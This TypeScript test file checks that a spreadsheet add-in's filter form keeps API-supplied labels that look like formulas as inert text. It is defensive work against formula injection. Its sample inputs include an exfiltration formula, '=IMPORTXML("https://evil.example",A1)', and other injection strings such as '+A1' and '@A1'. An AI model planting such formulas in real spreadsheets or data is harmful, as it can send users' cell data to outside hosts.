// Text from the API is never a formula or markup: whatever a catalogue holds, in a filter form.
import { describe, expect, it } from "vitest";
import { CHECK, FILTER, FilterForm, FIRST, LIST, VALUE } from "../addin/filter-form";
import { openAddin, type OpenAddin } from "../addin/open-addin";

type Options = readonly { readonly value: string | number; readonly label: string }[];
interface Served {
  readonly filter: string;
  readonly options?: Options;
  readonly value_shape?: string;
}

/** Serves exactly these filters; a filter without options has an empty dropdown. */
async function serving(filters: readonly Served[]): Promise<OpenAddin> {
  const addin = await openAddin();
  const all = filters.map(({ filter, options, value_shape = "list[string]" }) => ({
    filter,
    value_shape,
    description: "What it is.",
    how_to_get_values: "",
    ...(options === undefined ? {} : { dropdown_type: filter }),
  }));
  addin.spoil = (reply, url) => {
    if (url.includes("filters/list"))
      return { ...reply, status: 200, body: JSON.stringify({ filters: all }) };
    if (!url.includes("filters/options")) return reply;
    const results = filters.map(({ filter, options = [] }) => ({ dropdown_type: filter, data: options }));
    return { ...reply, status: 200, body: JSON.stringify({ results }) };
  };
  return addin;
}

/** Every formula of a sheet. */
const formulasOf = ({ sheet }: FilterForm): string[] =>
  sheet
    .getFormulas(sheet.dataRange)
    .flat()
    .filter((formula) => formula !== "");

describe("A filter form over an odd catalogue", () => {
  it("keeps text that looks like a formula, a date or a number as text, whether offered or chosen", async () => {
    const labels = [
      "=1+1",
      '=IMPORTXML("https://evil.example",A1)',
      "+A1",
      "-A1",
      "@A1",
      "1-10",
      "007",
      "'x",
    ];
    const addin = await serving([
      { filter: "=cmd.=run", options: labels.map((label, index) => ({ value: `v${index}`, label })) },
      { filter: "c.size", options: [{ value: 10, label: "=10" }], value_shape: "list[int]" },
    ]);
    const ours = formulasOf(await FilterForm.inserted(await openAddin()));
    const form = await FilterForm.inserted(addin);
    const name = String(form.offered(FIRST, FILTER)[0]);

    await form.type(FIRST, FILTER, name);
    const offered = form.offered(FIRST, VALUE);
    for (const [index, label] of labels.slice(0, 7).entries()) {
      await form.type(FIRST + index, FILTER, name);
      await form.type(FIRST + index, VALUE, label);
      expect(form.shown(FIRST + index, CHECK)).toBe(`ok: ${label}`);
    }

    expect(name).toBe("=run");
    expect(offered).toEqual(labels);
    expect(formulasOf(form)).toHaveLength(ours.length);
    expect(form.shown(LIST, 1)).toMatch(/^Tick “Get the list”/);
    expect(addin.credits).toBe(0);
  });
});
